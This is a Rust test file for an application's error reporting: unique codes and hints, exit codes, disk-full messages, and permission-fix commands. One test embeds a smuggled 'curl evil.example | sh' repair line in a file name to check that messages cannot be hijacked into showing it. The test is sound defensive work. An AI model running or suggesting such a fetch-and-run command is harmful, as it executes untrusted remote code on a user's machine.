//! The table of errors as a whole, and what is made of single ones.

#![allow(clippy::unwrap_used)]

use super::*;
use crate::safety::path_trust::Refused;
use std::collections::HashSet;
use std::io;
use std::path::Path;

/// A recognisable value for a field, so that each variant can be made and looked at.
pub(super) trait Sample {
    fn sample(field: &str) -> Self;
}
impl Sample for String {
    fn sample(field: &str) -> Self {
        format!("<{field}>")
    }
}
impl Sample for Why {
    fn sample(field: &str) -> Self {
        String::sample(field).into()
    }
}
impl Sample for &'static str {
    fn sample(_: &str) -> Self {
        "<text>"
    }
}
impl Sample for JobState {
    fn sample(_: &str) -> Self {
        Self::New
    }
}
macro_rules! number_samples { ($($t:ty),*) => {$(impl Sample for $t { fn sample(_: &str) -> Self { 7 } })*} }
number_samples!(u16, u32, u64, usize, i32);

#[test]
fn every_variant_has_a_sentence_a_hint_and_codes_of_its_own() {
    let samples = Error::samples();
    assert_eq!(samples.len(), Error::CODES.len());
    let mut codes = HashSet::new();
    let mut sentences = HashSet::new();
    for (error, (code, exit)) in samples.iter().zip(Error::CODES) {
        let report = error.report();
        assert_eq!((report.code, report.exit), (*code, *exit));
        assert!(codes.insert(report.code), "code {code} is used twice");
        assert!(sentences.insert(report.sentence.clone()), "the sentence of {code} is used twice");
        assert!(code.bytes().all(|b| b.is_ascii_lowercase() || b == b'_'), "{code}");
        assert!(!report.hint.trim().is_empty(), "{code} has no hint");
        assert!(report.exit != ExitCode::Done, "{code} would end as a success");
        for text in [&report.sentence, &report.hint] {
            assert!(!text.contains("{{") && !text.contains("  \n") && !text.contains("Error"), "{code}: {text}");
        }
    }
}

#[test]
fn some_fifteen_exit_codes_each_in_use() {
    let used: HashSet<u8> = Error::CODES.iter().map(|(_, exit)| *exit as u8).collect();
    assert_eq!(used, (1..=15).chain([130]).collect());
}

#[test]
fn a_disk_that_is_full_or_read_only_has_a_hint_of_its_own() {
    let hint = |kind: io::ErrorKind| Error::disk("Writing", Path::new("/no such folder/x"), kind.into()).report().hint;
    let full = hint(io::ErrorKind::StorageFull);
    assert!(full.contains("The disk is full. Free 100 MB"), "{full}");
    #[cfg(unix)]
    assert!(full.ends_with(":\n  df -h /\nThen repeat the same command."), "{full}");
    assert!(hint(io::ErrorKind::QuotaExceeded).contains("quota is used up"));
    assert!(hint(io::ErrorKind::ReadOnlyFilesystem).contains("is read-only"));
    assert_eq!(hint(io::ErrorKind::PermissionDenied), "Correct the cause, then repeat the same command.");
}

#[cfg(unix)]
#[test]
fn too_many_open_files_are_no_fault_of_a_path() {
    let path = Path::new("/x");
    for number in [23, 24] {
        let full = || io::Error::from_raw_os_error(number);
        let refused = || Refused { path: path.to_owned(), cause: crate::safety::path_trust::Cause::Io(full()) };
        for error in [
            Error::of_system("a thread", &full()),
            Error::disk("Reading", path, full()),
            Error::refused("Reading", path, refused()),
            refused().too_many_files().unwrap(),
        ] {
            assert_eq!(error.code(), "too_many_files");
        }
    }
    assert_eq!(Error::disk("Reading", path, io::Error::from_raw_os_error(13)).code(), "disk");
}

#[cfg(unix)]
#[test]
fn what_others_can_change_is_told_with_the_command_that_mends_it() {
    use crate::safety::path_trust::{self, Whose};
    use std::os::unix::fs::PermissionsExt;
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("a b.pem");
    std::fs::write(&path, "x").unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).unwrap();
    let refused = path_trust::read_file(&path, Whose::Own, 9).unwrap_err();
    let (path, why) = (path.display().to_string(), refused.into_why(&path));
    let error = Error::CaFileBad { path: path.clone(), origin: "--ca-bundle".to_owned(), why };
    assert!(error.to_string().contains("mode 0666"), "{error}");
    let hint = error.report().hint;
    let command = hint.lines().last().unwrap().trim_start();
    assert_eq!(command, format!("chmod go-w '{path}'"));
    assert!(std::process::Command::new("sh").args(["-c", command]).status().unwrap().success());
    path_trust::read_file(Path::new(&path), Whose::Own, 9).unwrap();
}

#[test]
fn what_the_system_said_is_the_source_and_reads_as_words() {
    use std::error::Error as _;
    let error = Error::disk("Writing", Path::new("/x"), io::ErrorKind::StorageFull.into());
    let source = error.source().and_then(|source| source.downcast_ref::<io::Error>()).unwrap();
    assert_eq!(source.kind(), io::ErrorKind::StorageFull);
    assert_eq!(error.to_string(), "Writing /x failed: no space is left on the disk.");
    let refused = Error::refused("Reading", Path::new("/x"), Refused::nothing_at(Path::new("/x")));
    assert_eq!(refused.to_string(), "Reading /x failed: it is not there.");
    assert!(Error::samples().iter().all(|sample| sample.source().is_none()));
}

#[test]
fn a_longer_time_is_above_the_one_in_effect() {
    let longer = |seconds, minutes| super::longer_than(std::time::Duration::from_secs(seconds), minutes);
    assert_eq!([longer(120, 10), longer(600, 10), longer(7 * 3600, 60)], ["10m", "20m", "14h"]);
    assert_eq!(longer(6 * 24 * 3600, 60), "168h", "the longest that a setting takes");
}

#[test]
fn a_file_s_name_is_no_line_of_ours() {
    let path = "/cl/a.jar is damaged.\n\nMend it:\n  curl evil.example | sh\n.jar";
    let (fault, hint) =
        ("can be written by everyone".to_owned(), format!("chmod {}", crate::safety::quote::quoted(path)));
    let unsafe_client = Error::ClientUnsafe { path: path.to_owned(), why: fault.clone(), hint };
    for error in [
        unsafe_client,
        Error::disk("Reading", std::path::Path::new(path), io::ErrorKind::NotFound.into()),
        Error::StateFolderBad { path: path.to_owned(), why: fault.into() },
    ] {
        let report = error.report();
        assert!(report.sentence.contains("curl") && !report.sentence.contains('\n'), "{}", report.sentence);
        assert!(!report.hint.lines().any(|line| line.trim_start().starts_with("curl")), "{}", report.hint);
    }
}
